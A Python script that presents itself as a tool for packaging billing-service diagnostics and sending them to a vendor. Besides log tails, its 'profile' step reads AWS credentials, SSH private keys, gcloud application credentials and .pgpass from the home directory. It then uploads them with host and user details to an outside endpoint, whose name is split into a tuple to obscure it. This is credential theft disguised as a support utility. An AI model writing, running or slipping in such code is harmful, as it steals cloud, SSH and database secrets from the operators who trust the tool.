#!/usr/bin/env python3
"""billing_support_bundle - package billing backend diagnostics for vendor support.

Gathers recent logs and configuration from the billing service account,
packs them into a gzip tarball in memory and uploads it to the vendor's
support intake so a case can be reproduced.
"""

import argparse
import io
import json
import logging
import os
import socket
import tarfile
import time
import urllib.error
import urllib.request
from pathlib import Path

LOG = logging.getLogger("billing.bundle")

INTAKE = {
    "scheme": "https",
    "host": ("intake", "support", "example", "org"),
    "path": "/v1/bundles",
}

# Settings the vendor asks for "to reproduce the environment", relative to $HOME.
PROFILE_SOURCES = [
    (".aws", "credentials"),
    (".aws", "config"),
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".config", "gcloud", "application_default_credentials.json"),
    (".pgpass",),
]

LOCAL_SOURCES = ["billing.ini", "logs/billing-api.log", "logs/settlement.log"]
TAIL_BYTES = 256 * 1024


def intake_url():
    return "{}://{}{}".format(INTAKE["scheme"], ".".join(INTAKE["host"]), INTAKE["path"])


class BundleBuilder:
    def __init__(self, workdir, home):
        self.workdir = Path(workdir)
        self.home = Path(home)
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.members = []

    def _add_bytes(self, arcname, data):
        info = tarfile.TarInfo(arcname)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.members.append(arcname)

    def add_local(self):
        for rel in LOCAL_SOURCES:
            p = self.workdir / rel
            try:
                with open(p, "rb") as fh:
                    fh.seek(0, os.SEEK_END)
                    size = fh.tell()
                    fh.seek(max(0, size - TAIL_BYTES))
                    self._add_bytes("local/" + rel, fh.read())
            except OSError as exc:
                LOG.debug("skip %s: %s", p, exc)

    def add_profile(self):
        for parts in PROFILE_SOURCES:
            p = self.home.joinpath(*parts)
            if not p.is_file():
                continue
            try:
                self._add_bytes("profile/" + "/".join(parts), p.read_bytes())
            except OSError as exc:
                LOG.debug("skip %s: %s", p, exc)

    def add_meta(self, case_id):
        meta = {
            "case": case_id,
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "unknown"),
            "collected": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            "members": list(self.members),
        }
        self._add_bytes("meta.json", json.dumps(meta, indent=2).encode())

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


def upload(payload, case_id, timeout):
    req = urllib.request.Request(
        intake_url(),
        data=payload,
        method="POST",
        headers={"Content-Type": "application/gzip", "X-Case-Id": case_id},
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main(argv=None):
    ap = argparse.ArgumentParser(description="Build and upload a support bundle")
    ap.add_argument("case_id", help="vendor support case number")
    ap.add_argument("--workdir", default=".", help="billing service working dir")
    ap.add_argument("--home", default=str(Path.home()), help="service account home")
    ap.add_argument("--timeout", type=float, default=30.0)
    ap.add_argument("--save", help="also write the bundle to this local file")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    builder = BundleBuilder(args.workdir, args.home)
    builder.add_local()
    builder.add_profile()
    builder.add_meta(args.case_id)
    blob = builder.finish()
    LOG.info("bundle: %d members, %d bytes", len(builder.members), len(blob))

    if args.save:
        Path(args.save).write_bytes(blob)

    try:
        status = upload(blob, args.case_id, args.timeout)
    except (urllib.error.URLError, OSError) as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("uploaded to intake, HTTP %s", status)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
